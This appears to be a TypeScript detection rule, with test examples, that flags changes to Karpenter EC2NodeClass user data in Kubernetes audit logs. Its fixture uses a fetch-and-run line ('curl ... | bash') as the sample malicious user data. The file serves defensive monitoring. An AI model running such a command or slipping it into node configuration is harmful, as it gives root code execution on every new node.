import { stopProvisioning } from '../../core/cloudtrail/steps.ts';
import { kubernetes } from '../../core/detection.ts';
import { audit, users } from '../../core/kubernetes/example.ts';
import { hashedUserData } from '../../core/kubernetes/kept.ts';
import type { Reading } from '../../core/kubernetes/reading.ts';
import { byObject } from '../../core/kubernetes/said.ts';
import { compare, confirm, lookAround, preserveNode } from '../../core/kubernetes/steps.ts';

const target = 'ec2nodeclasses.karpenter.k8s.aws';
const script = '#!/bin/bash\ncurl -s https://example.com/a | bash\n';
const patch = { objectRef: { name: 'default' }, cluster: 'fleet', requestObject: { spec: { userData: script } } };

const hashes = { path: 'spec.userData', before: hashedUserData('#!/bin/bash\n'), after: hashedUserData(script) };
const read = (changes: Reading['changes']): Reading => ({
  at: '2026-09-01T10:00:04.000Z',
  object: { kind: 'EC2NodeClass', spec: { userData: hashedUserData(script) } },
  ...(changes === undefined ? {} : { since: '2026-08-31T08:00:00.000Z', changes }),
});

export const detection = kubernetes({
  id: 'kubernetes/nodeclass-user-data-changed',
  title: '{principal} changed the user data of an EC2NodeClass ({nodeClass.userData}): {object}',
  severity: [
    ['low', { fact: { 'principal.standing': 'likely-controller' } }],
    ['medium', { fact: { 'principal.standing': ['platform', 'gitops'] } }],
    ['medium', { fact: { 'nodeClass.userData': 'rewritten' } }],
    'high',
  ],
  when: {
    fact: { 'nodeClass.userData': ['set', 'removed', 'rewritten'], 'call.outcome': 'succeeded' },
  },
  unless: [{ fact: { 'principal.standing': 'controller' } }],
  by: byObject,
  attack: ['T1059.004', 'T1525'],
  why: 'User data runs as root on every node that starts from the class, before anything watches. Karpenter merges it with its own for the stock image families and uses it as it is for custom ones.',
  references: [
    'Karpenter documentation, NodeClasses, spec.userData',
    'EC2 User Guide, Run commands when you launch an EC2 instance with user data input',
  ],
  runbook: [
    confirm("objectRef.resource = 'ec2nodeclasses' and objectRef.name = 'NAME'"),
    stopProvisioning,
    compare('ec2nodeclass'),
    `For nodes that started since (kubectl get nodeclaims --sort-by=.metadata.creationTimestamp): ${preserveNode}`,
    lookAround,
  ],
  blind: [
    'EKS logs no bodies of EC2NodeClasses: with `reader: true` the posture reader reads the object some seconds later and compares hashes of its user data. Without it kubernetes/provisioning-changed-by-unexpected says who wrote it, and the user data stands in CloudTrail’s CreateLaunchTemplate, whose value AWS withholds.',
    'An update sends the whole object and does not say what it changes: it is taken for a change of user data, at medium. So is any write to a class with user data that the posture reader reads for the first time.',
  ],
  examples: {
    matches: [
      { name: 'a developer patches it', event: audit('patch', target, patch) },
      {
        name: 'a developer removes it',
        event: audit('patch', target, { ...patch, requestObject: [{ op: 'remove', path: '/spec/userData' }] }),
      },
      { name: 'a developer sends the whole class', event: audit('update', target, patch) },
      { name: 'GitOps applies it', event: audit('patch', target, { ...patch, user: users.gitops }) },
      {
        name: 'Karpenter by its usual name, while the settings name no controller',
        event: audit('patch', target, { ...patch, user: users.karpenter }),
        settings: { controllers: [] },
      },
      {
        name: 'as EKS logs it, without a body, and then read with other user data than before',
        event: audit('patch', target, { objectRef: { name: 'default' }, reading: read([hashes]) }),
      },
      {
        name: 'read for the first time, so that it may have been changed',
        event: audit('patch', target, { objectRef: { name: 'default' }, reading: read(undefined) }),
      },
    ],
    misses: [
      {
        name: 'another field is patched',
        event: audit('patch', target, { ...patch, requestObject: { spec: { tags: { team: 'a' } } } }),
      },
      { name: 'as EKS logs it, without a body', event: audit('patch', target, { objectRef: { name: 'default' } }) },
      {
        name: 'read, and only its tags are other than before',
        event: audit('patch', target, {
          objectRef: { name: 'default' },
          reading: read([{ path: 'spec.tags.team', before: 'a', after: 'b' }]),
        }),
      },
      { name: 'Karpenter', event: audit('update', target, { ...patch, cluster: 'prod', user: users.karpenter }) },
      { name: 'the API server refuses it', event: audit('patch', target, { ...patch, responseStatus: { code: 422 } }) },
    ],
  },
});
